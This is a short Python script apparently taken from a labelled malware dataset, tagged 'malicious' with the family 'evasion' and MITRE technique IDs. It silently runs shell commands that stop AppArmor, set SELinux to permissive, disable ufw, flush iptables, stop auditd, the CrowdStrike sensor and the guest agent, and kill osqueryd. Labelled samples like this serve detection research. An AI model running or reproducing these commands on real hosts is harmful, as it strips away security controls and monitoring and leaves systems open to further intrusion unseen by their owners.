# label: malicious family=evasion techniques=T1059.004,T1562.001,T1562.004 lines=4-9,12
import subprocess
cmds = [
    "systemctl stop apparmor; systemctl disable apparmor",
    "setenforce 0",
    "ufw disable",
    "iptables -F",
    "systemctl stop google-guest-agent falcon-sensor auditd",
    "pkill -f osqueryd",
]
for c in cmds:
    subprocess.run(c, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
